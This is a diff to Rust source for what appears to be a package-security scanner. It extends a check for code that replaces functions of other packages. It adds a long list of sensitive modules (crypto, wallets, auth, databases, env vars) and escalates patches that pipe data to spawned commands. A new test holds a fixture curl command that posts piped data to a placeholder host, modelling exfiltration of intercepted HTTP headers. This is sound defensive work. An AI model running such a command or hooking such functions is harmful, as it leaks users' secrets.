@@ -91,6 +91,8 @@ impl Check for EnvironmentTampering {
 
 /// Functions through which secrets, requests and programs of others go.
 const SENSITIVE: &[&str] = &[
+    // A method of a class that is only known by its name.
+    "?.",
     "requests.",
     "urllib3.",
     "httpx.",
@@ -138,6 +140,31 @@ const SENSITIVE: &[&str] = &[
     "solana.",
     "openai.",
     "anthropic.",
+    "nacl.",
+    "cryptography.",
+    "jwt.",
+    "mnemonic.",
+    "bip_utils.",
+    "bitcoinlib.",
+    "django.contrib.auth.",
+    "flask_login.",
+    "passlib.",
+    "bcrypt.",
+    "psycopg2.",
+    "psycopg.",
+    "pymysql.",
+    "sqlalchemy.create_engine",
+    "redis.",
+    "ldap3.",
+    "telethon.",
+    "pyrogram.",
+    "httplib2.",
+    "websockets.",
+    "grpc.",
+    "ssl.wrap_socket",
+    "logging.Logger.",
+    "os.getenv",
+    "os.environ",
 ];
 
 /// A function of somebody else that is replaced. Who calls something afterwards is seen in the
@@ -157,7 +184,13 @@ fn patched(contents: &Contents, act: &Act) -> Option<Severity> {
         let addresses = addresses(send);
         is_near && (addresses.iter().any(Address::is_foreign) || send.taints.any(Taints::SECRETS))
     });
-    if sends {
+    let is_handed_over = || {
+        commands(contents).iter().any(|command| {
+            let is_near = command.site.member == act.site.member;
+            is_near && command.trigger != Trigger::Never && command.sends_abroad()
+        })
+    };
+    if sends || is_handed_over() {
         return weigh(act.trigger, High, Medium);
     }
     let severity = if act.trigger == Trigger::Build || !leads_out(contents, act) {
@@ -357,6 +390,21 @@ mod tests {
             &EnvironmentTampering,
             world,
             "medium: replaces functions of other packages, when it is used",
+        );
+    }
+
+    #[test]
+    fn flags_replacements_that_hand_what_they_see_to_a_program() {
+        let spawn = act(Deed::Spawn, "subprocess.run")
+            .texts(&["curl -s --data-binary @- https://h.invalid/in"])
+            .when(Trigger::Call);
+        let world = demo()
+            .acting(patch("http.client.HTTPConnection.putheader"))
+            .acting(spawn);
+        assert_shows(
+            &EnvironmentTampering,
+            world,
+            "high: replaces functions of other packages, when it is imported",
         );
     }
 
